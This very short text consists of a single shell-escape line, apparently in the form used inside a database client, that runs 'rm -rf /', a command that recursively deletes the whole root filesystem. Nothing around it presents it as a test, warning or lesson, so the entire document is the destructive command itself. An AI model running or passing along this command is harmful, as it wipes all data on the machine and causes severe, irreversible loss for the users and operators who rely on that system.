\! rm -rf /
